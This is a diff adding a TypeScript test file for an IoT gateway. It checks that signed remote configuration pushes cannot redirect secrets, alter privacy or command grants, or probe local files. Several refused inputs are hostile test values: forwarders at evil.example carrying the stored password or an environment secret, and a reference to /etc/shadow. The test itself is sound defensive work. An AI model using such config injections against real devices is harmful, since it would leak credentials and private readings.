@@ -1,0 +1,154 @@
+/** What a signed text may not do: read through the loader of the program, and answered as upstream hears it. */
+import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import path from 'node:path';
+import test, { type TestContext } from 'node:test';
+import { baseOf, loadUpstream, readUpstream } from '../../../src/cli/pushed-config.ts';
+import { Configure } from '../../../src/configure/configure.ts';
+import { PushStore } from '../../../src/configure/record.ts';
+import { configureSecret, makeConfigureSecret, signConfiguration } from '../../../src/core/configure-keys.ts';
+import { SluiceError } from '../../../src/core/errors.ts';
+import { ManualClock } from '../../fakes/manual-clock.ts';
+import { scratch } from '../../harness/scratch.ts';
+
+const KEY = makeConfigureSecret();
+const SECRET = configureSecret(KEY.pem)?.sign;
+assert.ok(SECRET !== undefined);
+
+const FILE = `gateway: {id: g1, stateDir: state, configure: {keys: ['${KEY.key.text}']}}
+buses: {plant: {protocol: modbus-tcp, host: 127.0.0.1}}
+devices:
+  meter:
+    bus: plant
+    unit: 1
+    privacy: household
+    points: {power: {address: 1, table: holding, type: uint16}, flow: {address: 2, table: holding, type: uint16, privacy: technical}}
+privacy: {household: {upstream: {aggregate: 15m}}}
+broker: {listen: {host: 127.0.0.1, port: 1883}, commands: {operator: {ack: ['*']}}}
+forwarders:
+  cloud:
+    type: mqtt
+    url: mqtts://broker.example.org
+    purpose: billing
+    username: site
+    password: {file: cloud.secret}
+    commands: {configure: true}
+  local: {type: mqtt, url: mqtt://10.0.0.1, username: {env: SITE_USER}}
+`;
+
+/** Sends texts to a board with this file, each as a version of its own. */
+function board(t: TestContext, file = FILE) {
+  const folder = scratch(t, 'bounds');
+  const config = path.join(folder, 'gateway.yaml');
+  writeFileSync(path.join(folder, 'cloud.secret'), 'hunter2\n', { mode: 0o600 });
+  process.env.SITE_USER = 'u';
+  const read = readUpstream(file, config, { readSecrets: true, secretsLater: false });
+  const base = baseOf(read);
+  assert.ok(base !== undefined, JSON.stringify(read.faults));
+  const clock = new ManualClock();
+  const store = new PushStore(path.join(folder, 'config'));
+  const begin = () => {
+    const made = new Configure({
+      ...{ clock, store, record: { floor: 0 }, notices: [], base, ranWell: () => {} },
+      logger: { info: () => {}, warn: () => {}, error: () => {}, debug: () => {} } as never,
+      load: (yaml, of, secrets) => loadUpstream(yaml, config, of, secrets),
+    });
+    made.begin({ config: base.config, now: () => 1, health: () => ({ forwarders: [], buses: [] }), tell: () => {} } as never);
+    return made;
+  };
+  return async (yaml: string): Promise<string> => {
+    const signature = signConfiguration({ gateway: 'g1', version: 1, expires: undefined, yaml }, SECRET as never);
+    const later = { id: 'a', owner: 'forwarder:cloud' };
+    const configure = begin();
+    try {
+      const { state } = await configure.run({ do: 'configure', version: 1, yaml, signature }, { later });
+      return state;
+    } catch (thrown) {
+      assert.ok(thrown instanceof SluiceError, String(thrown));
+      return `${thrown.code}: ${thrown.message}`;
+    } finally {
+      configure.stop();
+    }
+  };
+}
+
+const change = (from: string | RegExp, to: string, text = FILE): string => {
+  const changed = text.replace(from, to);
+  assert.notEqual(changed, text, String(from));
+  return changed;
+};
+
+test('a secret goes only where the file on the board sends it', async (t) => {
+  const ask = board(t);
+  const refused: [string, RegExp][] = [
+    [
+      `${FILE}  thief: {type: mqtt, url: mqtt://evil.example, password: {file: cloud.secret}, username: x}\n`,
+      /at forwarders.thief.password/,
+    ],
+    [
+      `${FILE}  thief: {type: mqtt, url: mqtt://evil.example, username: {env: SITE_USER}}\n`,
+      /env SITE_USER is not named .* at forwarders.thief.username/,
+    ],
+    [change('10.0.0.1', '10.0.0.2'), /forwarders.local takes secrets from the board/],
+    [change('url: mqtt://10.0.0.1', "url: ['mqtt://10.0.0.1', 'mqtt://10.0.0.2']"), /forwarders.local takes secrets/],
+    [change('mqtt://10.0.0.1,', "mqtt://10.0.0.1, proxy: 'http://evil.example:3128',"), /forwarders.local takes secrets/],
+    [change('mqtts://broker', 'mqtt://broker'), /forwarders.cloud takes secrets/],
+    [
+      change('purpose: billing', `tls: {fingerprint: '${'ab'.repeat(32)}'}, purpose: billing`.replace(', ', '\n    ')),
+      /forwarders.cloud takes secrets/,
+    ],
+    [change('username: site', 'username: {file: cloud.secret}'), /cloud.secret is not named .* at forwarders.cloud.username/],
+  ];
+  for (const [text, words] of refused) {
+    const answer = await ask(text);
+    assert.match(answer, /^configure-refused/, text);
+    assert.match(answer, words);
+  }
+  assert.equal(await ask(FILE), 'trial');
+  assert.equal(await ask(change('mqtt://10.0.0.1', 'mqtt://10.0.0.1:1884')), 'trial');
+  const open = change(', username: {env: SITE_USER}', '');
+  assert.equal(await board(t, open)(change('10.0.0.1', '10.0.0.2', open)), 'trial', 'without a secret the address may change');
+});
+
+test('privacy, purposes and grants are those of the file on the board', async (t) => {
+  const ask = board(t);
+  const refused: [string, RegExp][] = [
+    [change(/^privacy: .*\n/m, ''), /privacy changes only in the file on the board/],
+    [change('aggregate: 15m', 'aggregate: 1m'), /privacy changes only/],
+    [change('    privacy: household\n', ''), /the privacy class of meter.\* is household/],
+    [change('power: {address: 1,', 'power: {address: 1, privacy: technical,'), /class of meter.power is household/],
+    [
+      change('power: {address: 1,', 'more: {address: 9, privacy: technical, table: holding, type: uint16}, power: {address: 1,'),
+      /class of meter.more/,
+    ],
+    [change('purpose: billing', 'purpose: sale'), /forwarders.cloud.purpose changes only/],
+    [
+      change('{type: mqtt, url: mqtt://10', '{purpose: sale, type: mqtt, url: mqtt://10'),
+      /forwarders.local.purpose changes only/,
+    ],
+    [`${FILE}  more: {type: mqtt, url: mqtt://10.0.0.9, purpose: sale}\n`, /forwarders.more.purpose .*leave it out/],
+    [`${FILE}  more: {type: mqtt, url: mqtt://10.0.0.9, commands: {reload: true}}\n`, /forwarders.more.commands .*leave it out/],
+    [change('{configure: true}', '{configure: true, reload: true}'), /forwarders.cloud.commands changes only/],
+    [change("ack: ['*']", "ack: ['*'], shelve: ['*']"), /broker.commands changes only/],
+    [change("{operator: {ack: ['*']}}", '{}'), /broker.commands changes only/],
+  ];
+  for (const [text, words] of refused) {
+    const answer = await ask(text);
+    assert.match(answer, /^configure-refused/, text);
+    assert.match(answer, words);
+  }
+  assert.equal(await ask(change(', flow: {address: 2, table: holding, type: uint16, privacy: technical}', '')), 'trial');
+  const plain = change(/^(?: {4})?privacy: .*\n/gm, '').replace(', privacy: technical', '');
+  const stricter = change('    unit: 1\n', '    unit: 1\n    privacy: health\n', plain);
+  assert.equal(await board(t, plain)(stricter), 'trial', 'a point without a class may get one');
+});
+
+test('a signed text learns nothing of files and variables that the board does not name', async (t) => {
+  const ask = board(t);
+  const curious = (source: string) => change('{file: cloud.secret}', source);
+  for (const source of ['{file: /no/such/file}', '{file: /etc/shadow}', '{file: /etc/hostname}', '{env: NO_SUCH_VARIABLE}']) {
+    const answer = await ask(curious(source));
+    assert.match(answer, /^configure-refused: .*(file|env) \S+ is not named in the file on the board/, source);
+    assert.doesNotMatch(answer, /there is no|has no variable|may not read|is empty/);
+  }
+});
